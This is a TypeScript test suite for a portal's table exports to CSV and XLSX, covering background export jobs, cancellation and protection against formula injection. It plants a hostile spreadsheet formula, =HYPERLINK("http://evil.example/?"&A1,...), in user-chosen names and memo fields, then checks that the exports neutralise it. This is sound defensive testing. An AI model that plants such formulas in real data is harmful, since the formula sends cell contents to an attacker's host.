import { readXlsx } from 'hucre/xlsx';
import { sql, type RawBuilder } from 'kysely';
import {
  cancelTableExport,
  downloadTable,
  downloadTableExport,
  exportAtOnceMax,
  listAudit,
  listCallRecords,
  listCosts,
  listEarnings,
  listLedger,
  listMessages,
  listProviderApplies,
  listTableExports,
  prepareTableExport,
  type Call,
  type ExportFormat,
} from '@portal/calls';
import { days, formatDate } from '../src/platform/time';
import { buildTestApp, type Browser, type TestApp } from './buildTestApp';
import { newReqNo, signedIn } from './startMarket';

/** What a spreadsheet would work out, or worse, if it took it for a formula. */
const hostile = '=HYPERLINK("http://evil.example/?"&A1,"+看看")';
const rowsMade = exportAtOnceMax + 100;

let test: TestApp;
let ids: Record<'consumer' | 'provider' | 'subscription', string>;

beforeAll(async () => {
  test = await buildTestApp({ hasMarket: true });
  const { rows } = await sql<typeof ids>`
    select s.applicant_id as consumer, p.user_id as provider, s.id as subscription
    from subscriptions s join api_products a on a.id = s.api_id join providers p on p.id = a.provider_id
    join users c on c.id = s.applicant_id join users o on o.id = p.user_id
    where c.email = 'person@example.com' and o.email = 'provider@example.com' and s.env = 'prod' limit 1`.execute(
    test.db,
  );
  ids = rows[0]!;
  // Names that people choose themselves stand in most lists.
  await sql`update apps set name = ${hostile}
    where id = (select app_id from subscriptions where id = ${ids.subscription})`.execute(test.db);
  await sql`update users set nick_name = ${hostile} where id = ${ids.consumer}`.execute(test.db);
}, 120_000);
afterAll(() => test.close());
beforeEach(async () => {
  for (const table of ['rate_limits', 'table_exports'])
    await sql`delete from ${sql.table(table)}`.execute(test.db);
});

const dayBefore = (count: number) => formatDate(new Date(test.clock().getTime() - count * days));
const many = sql`generate_series(1, ${rowsMade}::int) i`;

interface List {
  call: Call;
  /** Name of the file and of its task. */
  name: string;
  account: 'person' | 'provider' | 'ops';
  query: () => Record<string, string>;
  /** Narrows the list to what is sent at once. */
  few: () => Record<string, string>;
  /** Column in which the hostile text stands. */
  column: string;
  plant: () => RawBuilder<unknown>[];
  /** Of a list that no filter narrows. */
  shorten?: () => RawBuilder<unknown>[];
}

const lists: readonly List[] = [
  {
    call: listCallRecords,
    name: '调用明细',
    account: 'person',
    query: () => ({ from: dayBefore(1), to: dayBefore(0) }),
    few: () => ({ requestId: 'many-call-1' }),
    column: '接口',
    plant: () => [
      sql`insert into call_records (request_id, at, subscription_id, app_id, api_id, owner_id, provider_id, env, key_id,
          operation, status, code, is_billed, cost_minor, latency_ms, address)
        select 'many-call-' || i, ${test.clock()}::timestamptz - i * interval '1 millisecond', s.id, s.app_id, s.api_id,
          s.applicant_id, a.provider_id, 'prod', 'key', ${hostile}, 200, '', true, 300, 5, ''
        from ${many}, subscriptions s join api_products a on a.id = s.api_id where s.id = ${ids.subscription}`,
    ],
  },
  {
    call: listCosts,
    name: '支出',
    account: 'person',
    query: () => ({ from: dayBefore(1), to: dayBefore(0) }),
    few: () => ({ from: dayBefore(3), to: dayBefore(3) }),
    column: '应用',
    plant: () => [
      sql`insert into cost_days (owner_id, day, subscription_id, kind, ref, app_id, api_id, provider_id, env, gross_minor)
        select s.applicant_id, ${dayBefore(0)}::date, s.id, 'plan', 'many-' || i, s.app_id, s.api_id, a.provider_id, 'prod', 1
        from ${many}, subscriptions s join api_products a on a.id = s.api_id where s.id = ${ids.subscription}`,
    ],
  },
  {
    call: listLedger,
    name: '账户流水',
    account: 'person',
    query: () => ({}),
    few: () => ({}),
    column: '说明',
    plant: () => [
      sql`insert into ledger_transfers (id, idempotency_key, kind, memo, at, is_booked)
        select 'tr_many_' || i, 'many:' || i, 'adjust', ${hostile}, ${test.clock()}::timestamptz, true from ${many}`,
      sql`insert into ledger_entries (transfer_id, account_id, amount_minor)
        select 'tr_many_' || i, ${`${ids.consumer}:balance`}, 1 from ${many}`,
    ],
    shorten: () => [sql`delete from ledger_entries where transfer_id like 'tr_many_%'`],
  },
  {
    call: listEarnings,
    name: '收益',
    account: 'provider',
    query: () => ({ from: dayBefore(365), to: dayBefore(0) }),
    few: () => ({ from: dayBefore(1), to: dayBefore(1) }),
    column: '使用方',
    plant: () => [
      sql`insert into earnings (id, provider_id, owner_id, consumer_id, api_id, subscription_id, day, kind, calls,
          gross_minor, commission_minor, updated_at)
        select 'earn_many_' || i || kind, a.provider_id, p.user_id, ${ids.consumer}, a.id, s.id,
          ${dayBefore(0)}::date - (i % 360)::int, kind || (i / 360), 1, 10, 1, ${test.clock()}::timestamptz
        from ${many}, unnest(array['usage']) kind, subscriptions s join api_products a on a.id = s.api_id
          join providers p on p.id = a.provider_id where s.id = ${ids.subscription}`,
    ],
  },
  {
    call: listProviderApplies,
    name: '订阅与申请',
    account: 'provider',
    query: () => ({ tab: 'all' }),
    few: () => ({ tab: 'suspended' }),
    column: '应用',
    plant: () => [
      sql`insert into subscriptions (id, apply_no, app_id, api_id, env, plan_id, applicant_id, terms, state, reason, scene,
          daily_calls, submitted_at, decided_at)
        select 'apply_many_' || i, 'SQ-many-' || i, app_id, api_id, env, plan_id, applicant_id, terms, 8, ${hostile}, '',
          1, ${test.clock()}::timestamptz - i * interval '1 second', ${test.clock()}::timestamptz
        from ${many}, subscriptions where id = ${ids.subscription}`,
    ],
  },
  {
    call: listAudit,
    name: '审计日志',
    account: 'ops',
    query: () => ({ event: 'many' }),
    few: () => ({ event: 'login' }),
    column: '详情',
    plant: () => [
      sql`insert into audit_log (id, at, user_id, event, address, outcome, detail)
        select 'audit_many_' || i, ${test.clock()}::timestamptz - i * interval '1 second', ${ids.consumer}, 'many', '', 'ok',
          ${hostile} from ${many}`,
    ],
  },
];

describe.each(lists.map((list) => [list.name, list] as const))('%s', (_, list) => {
  let browser: Browser;
  beforeAll(async () => {
    for (const statement of list.plant()) await statement.execute(test.db);
  });
  beforeEach(async () => void (browser = await signedIn(test, `${list.account}@example.com`)));

  const get = (path: string, query: Record<string, string>) =>
    browser.send({ method: 'GET', url: `/ajaxurl/apix${path}?${new URLSearchParams(query)}` });
  const atOnce = (query: Record<string, string>, format: ExportFormat) =>
    get(downloadTable.path, { list: list.call.path, format, query: JSON.stringify(query) });
  const task = async () => (await browser.call(listTableExports, {})).resBody.records[0];

  async function prepare(format: ExportFormat): Promise<{ exportId: string; rows: number }> {
    const { path } = list.call;
    const reply = await browser.call(prepareTableExport, {
      list: path,
      query: list.query(),
      format,
      reqNo: newReqNo(),
    });
    expect([list.name, reply.resCode]).toEqual([list.name, 'S0000']);
    return reply.resBody as { exportId: string; rows: number };
  }

  it('is a task above what is sent at once, with its progress, a message and every row', async () => {
    expect((await atOnce(list.query(), 'csv')).json()).toMatchObject({ resCode: 'E3412' });
    const { exportId, rows } = await prepare('xlsx');
    expect(rows).toBeGreaterThan(exportAtOnceMax);
    expect(await task()).toMatchObject({ exportId, name: list.name, state: 'waiting', rows, done: 0 });

    await test.runJob('make-tables');

    expect(await task()).toMatchObject({ exportId, state: 'ready', done: rows });
    const { records } = (await browser.call(listMessages, { pageSize: 10 })).resBody;
    expect(records).toContainEqual(expect.objectContaining({ title: `“${list.name}”已导出` }));
    const { rawPayload } = await get(downloadTableExport.path, { exportId });
    const [titles, ...body] = (await readXlsx(new Uint8Array(rawPayload))).sheets[0]!.rows;
    expect(body).toHaveLength(rows);
    const at = titles!.indexOf(list.column);
    expect(body.filter((row) => row[at] === hostile).length).toBeGreaterThanOrEqual(exportAtOnceMax);
    expect(rawPayload.includes('<f>')).toBe(false);
  });

  it('can be cancelled, and is made as CSV in which nothing is a formula', async () => {
    const { exportId: unwanted } = await prepare('csv');
    expect(await browser.call(cancelTableExport, { exportId: unwanted })).toMatchObject({ resCode: 'S0000' });
    await test.runJob('make-tables');
    expect(await task()).toMatchObject({ exportId: unwanted, state: 'cancelled', bytes: 0 });

    const { exportId } = await prepare('csv');
    await test.runJob('make-tables');
    const { body } = await get(downloadTableExport.path, { exportId });
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?""`);
    // Neither at the beginning of a line nor of a cell, quoted or not.
    expect(body).not.toMatch(/(^|,|\n)"?[=+@\t]/);
  });

  it('is sent at once where it is short, in both forms', async () => {
    for (const statement of list.shorten?.() ?? []) await statement.execute(test.db);
    const text = await atOnce(list.few(), 'csv');
    expect(text.headers['content-type']).toContain('text/csv');
    expect(text.body.startsWith('\uFEFF')).toBe(true);
    const sheet = await atOnce(list.few(), 'xlsx');
    const [titles] = (await readXlsx(new Uint8Array(sheet.rawPayload))).sheets[0]!.rows;
    expect(text.body.split('\r\n')[0]!.replace('\uFEFF', '').split(',')).toEqual(titles);
  });
});
